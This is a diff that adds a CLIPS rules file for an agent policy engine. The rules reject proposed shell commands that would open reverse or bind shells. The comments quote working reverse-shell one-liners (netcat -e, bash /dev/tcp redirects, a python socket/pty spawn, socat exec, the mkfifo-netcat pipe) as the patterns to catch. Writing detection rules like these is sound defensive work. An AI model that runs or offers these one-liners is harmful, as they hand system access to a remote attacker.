@@ -1,0 +1,85 @@
+;;; shell_reverse_shell.clp — commands that hand a shell to a remote host.
+;;;
+;;; A reverse shell gives whoever listens at the other end the agent's privileges without
+;;; any further proposal passing the rules. Every form below is rejected outright.
+
+;; TRUE for an interpreter whose inline code (-c/-e/-r) could open a socket.
+(deffunction revshell-interpreter-p (?p)
+  (regex-match "^(python[0-9.]*|perl[0-9.]*|ruby[0-9.]*|php[0-9.]*|node|nodejs|lua[0-9.]*)$" ?p))
+
+;; TRUE for inline code that opens a socket and connects it or attaches a pty/shell to it.
+(deffunction revshell-socket-code-p (?code)
+  (and (regex-match "(?i)socket|fsockopen|TCPSocket|net\\.connect|new\\s+net\\.Socket" ?code)
+       (regex-match "(?i)connect|pty|spawn|dup2|exec|subprocess|popen|/bin/(ba|z|da)?sh" ?code)))
+
+;; TRUE for netcat's program-execution options: -e PROG, -c CMD (traditional netcat),
+;; ncat's --exec / --sh-exec / --lua-exec (also written --exec=PROG).
+(deffunction revshell-nc-exec-flag-p (?f)
+  (or (eq ?f "-e") (eq ?f "-c") (regex-match "^--(sh-|lua-)?exec(=|$)" ?f)))
+
+;; TRUE for a bash network pseudo-device (/dev/tcp/HOST/PORT, /dev/udp/HOST/PORT).
+(deffunction revshell-dev-net-p (?p)
+  (or (str-prefix "/dev/tcp/" ?p) (str-prefix "/dev/udp/" ?p)))
+
+;; Stops `nc -e /bin/sh host 4444`, `ncat --sh-exec bash host 4444`, `nc -lvp 4444 -e sh`,
+;; `nc host 4444 -c bash`: netcat executing a program wired to the socket is a (bind or
+;; reverse) shell.
+(defrule shell-reverse-shell-nc-exec
+  (shell-command (proposal ?id)
+                 (program "nc"|"ncat"|"netcat"|"nc.traditional"|"nc.openbsd"|"busybox")
+                 (flags $? ?f&:(revshell-nc-exec-flag-p ?f) $?))
+  =>
+  (assert (decision (proposal ?id) (outcome reject) (rule shell-reverse-shell-nc-exec)
+                    (reason "netcat executing a program on a socket"))))
+
+;; Stops `bash -i >& /dev/tcp/10.0.0.1/4242 0>&1`, `sh -i 5<> /dev/tcp/h/p`,
+;; `exec 3<>/dev/udp/h/p`: bash's network redirections attach the shell to a socket.
+(defrule shell-reverse-shell-dev-tcp
+  (shell-redirect (proposal ?id) (target ?t) (path ?p&:(or (revshell-dev-net-p ?t) (revshell-dev-net-p ?p))))
+  =>
+  (assert (decision (proposal ?id) (outcome reject) (rule shell-reverse-shell-dev-tcp)
+                    (reason (str-cat "redirect to a network socket: " ?t)))))
+
+;; Stops bash network pseudo-devices used as plain operands (`cat < x > /dev/tcp/…` is
+;; covered above; `cat /dev/tcp/h/p`, `tee /dev/tcp/h/p` here).
+(defrule shell-reverse-shell-dev-tcp-operand
+  (shell-command (proposal ?id) (argv $? ?a&:(revshell-dev-net-p ?a) $?))
+  =>
+  (assert (decision (proposal ?id) (outcome reject) (rule shell-reverse-shell-dev-tcp-operand)
+                    (reason (str-cat "network socket as a file: " ?a)))))
+
+;; Stops `socat tcp:h:4444 exec:/bin/sh,pty,stderr` and `socat … system:bash`: socat
+;; executing a program on a connection is a reverse shell.
+(defrule shell-reverse-shell-socat-exec
+  (shell-command (proposal ?id) (program "socat")
+                 (argv $? ?a&:(regex-match "(?i)(^|[,!:])(exec|system):" ?a) $?))
+  =>
+  (assert (decision (proposal ?id) (outcome reject) (rule shell-reverse-shell-socat-exec)
+                    (reason "socat executing a program on a connection"))))
+
+;; Stops `python -c 'import socket,pty,os;s=socket.socket();s.connect((h,p));pty.spawn("sh")'`
+;; and the perl/ruby/php/node equivalents: inline code that opens a socket and connects it.
+(defrule shell-reverse-shell-inline-socket
+  (shell-command (proposal ?id) (program ?p&:(revshell-interpreter-p ?p))
+                 (argv $? ?a&:(revshell-socket-code-p ?a) $?))
+  =>
+  (assert (decision (proposal ?id) (outcome reject) (rule shell-reverse-shell-inline-socket)
+                    (reason (str-cat ?p " inline code opens a network socket")))))
+
+;; Stops `mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc h 4444 > /tmp/f`: a named pipe
+;; together with a network client is the netcat-without--e reverse shell.
+(defrule shell-reverse-shell-fifo
+  (shell-command (proposal ?id) (program "mkfifo"|"mknod"))
+  (shell-command (proposal ?id) (program "nc"|"ncat"|"netcat"|"telnet"|"socat"|"openssl"))
+  =>
+  (assert (decision (proposal ?id) (outcome reject) (rule shell-reverse-shell-fifo)
+                    (reason "named pipe wired to a network client"))))
+
+;; Stops `telnet h 4444 | /bin/sh | telnet h 4445` and `nc h 4444 | bash`: a shell fed
+;; from (or feeding) a raw network connection.
+(defrule shell-reverse-shell-pipe-to-shell
+  (shell-command (proposal ?id) (program "nc"|"ncat"|"netcat"|"telnet"|"socat"))
+  (shell-command (proposal ?id) (program "sh"|"bash"|"zsh"|"dash"|"ksh"|"mksh"))
+  =>
+  (assert (decision (proposal ?id) (outcome reject) (rule shell-reverse-shell-pipe-to-shell)
+                    (reason "shell wired to a network connection"))))
